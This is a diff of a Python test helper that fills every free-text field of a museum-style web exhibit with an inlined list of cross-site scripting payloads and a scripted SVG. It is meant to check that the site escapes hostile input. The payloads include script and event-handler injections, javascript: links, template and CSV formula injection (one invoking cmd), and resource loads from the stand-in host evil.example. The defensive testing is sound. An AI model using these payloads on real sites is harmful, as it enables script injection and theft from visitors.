@@ -1,4 +1,4 @@
-"""An exhibit with a payload in every field that a curator fills in words."""
+"""A small exhibit with an XSS payload in every field that a curator fills in."""
 
 from __future__ import annotations
 
@@ -11,35 +11,94 @@ from typing import Any
 
 from ruamel.yaml import YAML
 
-from tests.endurance.payloads import DRAWING, PAYLOADS
-
 ROOT = Path(__file__).parents[2]
 SMALL = ROOT / "tests" / "exhibits" / "small"
 SHIPPED = ROOT / "data" / "exhibit"
-WORDS = {
+RUN = "top.RAN++"
+"""What each payload tries to do: increment the page's global `RAN`, which begins at 0."""
+EVIL = "https://evil.example/"
+PAYLOADS: tuple[str, ...] = (
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"<SCRIPT SRC={EVIL}x.js></SCRIPT>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<img src=x onerror={RUN}>",
+    f"'><img src=x onerror={RUN}>",
+    f'"><img src=x onerror={RUN}>',
+    f"`\"'><svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>tap</text></a></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
+    f"<a href='javascript:{RUN}'>tap</a>",
+    f"<a href='&#106;avascript:{RUN}'>tap</a>",
+    f"<a href='java\tscript:{RUN}'>tap</a>",
+    f"<a href='{EVIL}' target=_blank>tap</a>",
+    "<a href='//evil.example' download>tap</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD50b3AuUkFOPTE8L3NjcmlwdD4='>tap</a>",
+    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
+    f"<iframe src='{EVIL}'></iframe><embed src='//evil.example'>",
+    f"<details open ontoggle={RUN}><summary>tap</summary></details>",
+    f"<form action=//evil.example><input autofocus onfocus={RUN}><button>tap",
+    f"<base href={EVIL}><link rel=stylesheet href=//evil.example>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<style>@import '//evil.example';*{{background:url({EVIL})}}</style>",
+    f"red;background:url({EVIL});width:expression({RUN})",
+    f"</style><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"--><script>{RUN}</script><!--",
+    f"]]><script>{RUN}</script><![CDATA[",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"[tap](javascript:{RUN}) [tap]({EVIL}) <{EVIL}>",
+    f"![x]({EVIL}x.png)\n\n[tap][r]\n\n[r]: javascript:{RUN}",
+    f"[tap]{{onclick={RUN}}} [tap]{{lang='x\" onclick=\"{RUN}'}}",
+    f"{{{{7*7}}}}{{% for x in y %}}${{{RUN}}}#{{{RUN}}}<%= 7*7 %>",
+    f"');{RUN};//",
+    f'");{RUN};//',
+    f"\\');{RUN};//\\",
+    f"`${{{RUN}}}`",
+    f"\u2028{RUN}\u2029",
+    f'=HYPERLINK("{EVIL}","tap")',
+    f"@SUM(1+1)*cmd|' /C {EVIL}'!A0",
+    f"\u202egnp.<script>{RUN}</script>\u2066",
+    f"javascript:{RUN}",
+    f"x onmouseover={RUN} x=",
+    f'x" onpointerdown="{RUN}" x=\'',
+    f"<p style='position:fixed;inset:0;z-index:9' onpointerdown={RUN}>cover</p>",
+)
+DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" width="640" height="240" onload="{RUN}">
+  <script>{RUN}</script><a href="{EVIL}"><rect width="640" height="240" onclick="{RUN}"/></a>
+  <image href="{EVIL}x.png" width="9" height="9"/><foreignObject><iframe src="{EVIL}"/></foreignObject>
+</svg>"""
+"""An SVG picture with scripts and links in it."""
+FREE_TEXT_FIELDS = {
     *("title", "subtitle", "welcome", "name", "short_name", "epithet", "introduction", "doubt", "citation"),
     *("note", "toponym_en", "toponym_then", "alt_en", "creator", "source", "text", "title_en", "title_de"),
     *("toponym_de", "alt_de", "text_de", "coordinate_source", "name_en"),
 }
-"""Fields of free words, in whatever sheet they stand."""
-STRICT = {
+"""Fields of free text, in whatever file they are."""
+TYPED_FIELDS = {
     *("colour", "line", "marker", "born", "date", "certainty", "place", "chapter", "picture", "leg"),
     *("travel", "label", "width_m", "rank", "size", "angle", "people", "languages", "mentions"),
     *("file", "kind", "licence", "year", "wikidata", "country", "latitude", "precision", "id", "stop_a"),
 }
-"""Fields that take only certain values: a payload there costs the row, and may do no more."""
-WHOLE = 10
-"""A turn at which no payload falls into a field that would cost a stop or a life: all six stops are shown."""
+"""Fields that accept only certain values: a payload there costs the row, and must do nothing more."""
+SHIFT_WITHOUT_LOSS = 10
+"""A shift at which no payload falls into a field that would cost a stop or a person: all six stops are
+shown."""
 
 
-class Poison:
-    """Hands out payloads in turn. `shift` moves the turn, so that another payload meets each field."""
+class XssExhibit:
+    """Fills the fields with payloads in turn. `shift` moves the sequence, so that each field gets another
+    payload; `typed_field` is one field of `TYPED_FIELDS` to fill too; `count` is the number of filled
+    fields."""
 
-    def __init__(self, folder: Path, shift: int = 0, *, strict: str = "") -> None:
+    def __init__(self, folder: Path, shift: int = 0, *, typed_field: str = "") -> None:
         self.folder = folder
-        self.fields = WORDS | ({strict} if strict else set())
+        self.fields = FREE_TEXT_FIELDS | ({typed_field} if typed_field else set())
         self.count = 0
-        self._turn = self._payloads(shift)
+        self._sequence = self._payloads(shift)
 
     def _payloads(self, shift: int) -> Iterator[str]:
         while True:
@@ -47,7 +106,7 @@ class Poison:
                 self.count += 1
                 yield PAYLOADS[(number + shift) % len(PAYLOADS)]
 
-    def pour(self) -> Poison:
+    def write(self) -> XssExhibit:
         """Write the whole exhibit; what was in the folder is overwritten."""
         shutil.copytree(SMALL, self.folder, dirs_exist_ok=True)
         for file in ("basemap/lettering.csv", "plans/jura.geojson"):
@@ -55,57 +114,64 @@ class Poison:
             shutil.copy(SHIPPED / file, self.folder / file)
         (self.folder / "pictures" / "pier.svg").write_text(DRAWING, encoding="utf-8")
         for path in sorted(self.folder.rglob("*.csv")):
-            self._table(path)
+            self._fill_table(path)
         for path in sorted(self.folder.rglob("*.yaml")):
-            sheet = YAML(typ="safe").load(path.read_text(encoding="utf-8"))
-            is_words = path.parent.name == "words"
-            self._write(path, self._words(sheet) if is_words else self._sheet(sheet))
+            fields = YAML(typ="safe").load(path.read_text(encoding="utf-8"))
+            is_interface = path.parent.name == "words"
+            _write_yaml(path, self._filled_interface(fields) if is_interface else self._filled(fields))
         for path in sorted(self.folder.glob("people/*/*.md")):
-            self._stop(path)
+            self._fill_stop(path)
         for path in sorted(self.folder.glob("plans/*.geojson")):
-            plan = json.loads(path.read_text(encoding="utf-8"))
-            for feature in plan["features"]:
-                said = feature["properties"]
-                said.update({key: next(self._turn) for key in said if key in self.fields})
-            plan.update({"name": next(self._turn), "title_en": next(self._turn)})
-            path.write_text(json.dumps(plan), encoding="utf-8")
+            self._fill_plan(path)
         return self
 
-    def _table(self, path: Path) -> None:
+    def _fill_table(self, path: Path) -> None:
         with path.open(encoding="utf-8", newline="") as file:
             rows = list(csv.DictReader(file))
         for row in rows:
-            row.update({key: next(self._turn) for key in row if key in self.fields})
+            row.update({key: next(self._sequence) for key in row if key in self.fields})
         with path.open("w", encoding="utf-8", newline="") as file:
             writer = csv.DictWriter(file, rows[0].keys())
             writer.writeheader()
             writer.writerows(rows)
 
-    def _sheet(self, sheet: Any) -> Any:
-        if isinstance(sheet, list):
-            return [self._sheet(each) for each in sheet]
-        if not isinstance(sheet, dict):
-            return sheet
+    def _filled(self, value: Any) -> Any:
+        if isinstance(value, list):
+            return [self._filled(each) for each in value]
+        if not isinstance(value, dict):
+            return value
         return {
-            key: next(self._turn) if key in self.fields else self._sheet(value)
-            for key, value in sheet.items()
+            key: next(self._sequence) if key in self.fields else self._filled(below)
+            for key, below in value.items()
         }
 
-    def _words(self, words: dict[str, str]) -> dict[str, str]:
-        """Every word of the interface; its own braces stay, and those of the payload are shown as braces."""
-        kept = ("locale",)
+    def _filled_interface(self, strings: dict[str, str]) -> dict[str, str]:
+        """Every interface string, followed by a payload. Its placeholders stay; the payload's braces are
+        escaped, so that they are shown as braces."""
+        untouched = ("locale",)
         return {
-            key: text if key in kept else text + " " + next(self._turn).replace("{", "{{").replace("}", "}}")
-            for key, text in words.items()
+            key: text
+            if key in untouched
+            else text + " " + next(self._sequence).replace("{", "{{").replace("}", "}}")
+            for key, text in strings.items()
         }
 
-    def _stop(self, path: Path) -> None:
+    def _fill_stop(self, path: Path) -> None:
         _, head, story = path.read_text(encoding="utf-8").split("---", 2)
-        sheet = self._sheet(YAML(typ="safe").load(head))
-        lines = [f"{key}: {json.dumps(value, default=str)}" for key, value in sheet.items()]
-        poisoned = f"{story.strip()}\n\n{next(self._turn)}\n\n{next(self._turn)}"
-        path.write_text("\n".join(["---", *lines, "---", poisoned, ""]), encoding="utf-8")
+        fields = self._filled(YAML(typ="safe").load(head))
+        lines = [f"{key}: {json.dumps(value, default=str)}" for key, value in fields.items()]
+        filled = f"{story.strip()}\n\n{next(self._sequence)}\n\n{next(self._sequence)}"
+        path.write_text("\n".join(["---", *lines, "---", filled, ""]), encoding="utf-8")
 
-    def _write(self, path: Path, sheet: Any) -> None:
-        lines = [f"{key}: {json.dumps(value, default=str)}" for key, value in sheet.items()]
-        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    def _fill_plan(self, path: Path) -> None:
+        plan = json.loads(path.read_text(encoding="utf-8"))
+        for feature in plan["features"]:
+            properties = feature["properties"]
+            properties.update({key: next(self._sequence) for key in properties if key in self.fields})
+        plan.update({"name": next(self._sequence), "title_en": next(self._sequence)})
+        path.write_text(json.dumps(plan), encoding="utf-8")
+
+
+def _write_yaml(path: Path, fields: dict[str, Any]) -> None:
+    lines = [f"{key}: {json.dumps(value, default=str)}" for key, value in fields.items()]
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
